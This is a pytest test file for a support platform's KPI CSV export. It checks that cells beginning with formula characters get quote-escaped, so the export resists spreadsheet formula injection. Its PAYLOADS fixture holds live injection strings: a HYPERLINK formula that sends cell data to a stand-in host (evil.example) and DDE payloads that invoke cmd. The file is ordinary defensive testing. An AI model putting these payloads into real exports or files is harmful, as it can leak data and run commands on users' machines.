"""CSV formula injection: the KPI export, downloaded from the running server,
never hands a spreadsheet a cell it would run as a formula.

The queue names are the text that reaches the export's cells; they come
from the config here, with the payloads a spreadsheet executes.
"""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path

import httpx
import pytest

from reports.export import cell, to_csv
from tests.conftest import PASSWORD
from tests.support.channels import seeded_users
from tests.support.clients import bearer, msg_id, new_session, recv_until, send, token, visitor
from tests.support.server import Server

PAYLOADS = {
    "hyperlink": '=HYPERLINK("http://evil.example/?d="&A1,"click")',
    "dde": "+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
}


def config() -> str:
    lines = ["[routing.queues.default]"]
    for tag, name in PAYLOADS.items():
        lines += [f"[routing.queues.{json.dumps(name)}]"]
        lines += [
            "[[routing.intake]]",
            f'name = "{tag}"',
            f"when = \"context.tag == '{tag}'\"",
            f"queue = {json.dumps(name)}",
        ]
    return "\n".join(lines) + "\n"


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    workdir: Path = tmp_path_factory.mktemp("csv")
    srv = Server(workdir, f"sqlite:///{workdir}/db.sqlite3", config=config(), **seeded_users())
    with srv:
        yield srv


async def test_kpi_csv_cells_never_start_a_formula(server: Server) -> None:
    for tag in PAYLOADS:
        session = new_session(server.http, name="Eve", context={"tag": tag})
        ws, _ = await visitor(server.ws, session["visitor_token"])
        ref = msg_id()
        await send(ws, type="message", client_msg_id=ref, text="hi")
        await recv_until(ws, "ack", client_msg_id=ref)
        await ws.close()
    now = datetime.now(UTC)
    period = {
        "since": (now - timedelta(hours=1)).isoformat(),
        "until": (now + timedelta(hours=1)).isoformat(),
    }
    reply = httpx.get(
        server.http + "/api/v1/reports/kpis",
        params=period,
        headers={**bearer(token(server.http, "sam", PASSWORD)), "Accept": "text/csv"},
        timeout=30,
    )
    assert reply.status_code == 200, reply.text
    rows = list(csv.reader(io.StringIO(reply.text, newline="")))
    keys = {row[1] for row in rows[1:] if row[0] == "queue"}
    assert keys >= {"'" + name for name in PAYLOADS.values()}
    for row in rows:
        for value in row:
            assert not value.startswith(("=", "+", "@", "\t", "\r")), row
            assert not value.startswith("-") or _number(value), row


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


@pytest.mark.parametrize("text", [*PAYLOADS.values(), "-", "=", "@", "+"])
def test_text_that_starts_a_formula_is_quoted(text: str) -> None:
    assert cell(text) == "'" + text


@pytest.mark.parametrize("value", [-20, -0.5, 0, 12.5, "", "billing", "a=b", "'quoted"])
def test_numbers_and_plain_text_stay_as_they_are(value: object) -> None:
    assert cell(value) == value


def test_every_cell_of_the_export_goes_through_the_guard() -> None:
    empty = {"conversations": 0, "sla": {"succeeded": 0, "noncompliant": 0}, "abandoned": 0}
    kpis = {
        **empty,
        "first_response_seconds": {"median": None, "p90": None},
        "resolution_seconds": {"median": None, "p90": None},
        "csat": {"average": None, "responses": 0},
        "nps": {"score": -40.0, "responses": 5},
    }
    report = {**kpis, "by_queue": {"=1+1": kpis}, "by_agent": {"@x": kpis}}
    rows = list(csv.reader(io.StringIO(to_csv(report), newline="")))
    assert [r[1] for r in rows[2:]] == ["'=1+1", "'@x"]
    assert rows[1][13] == "-40.0"  # a negative NPS stays a number
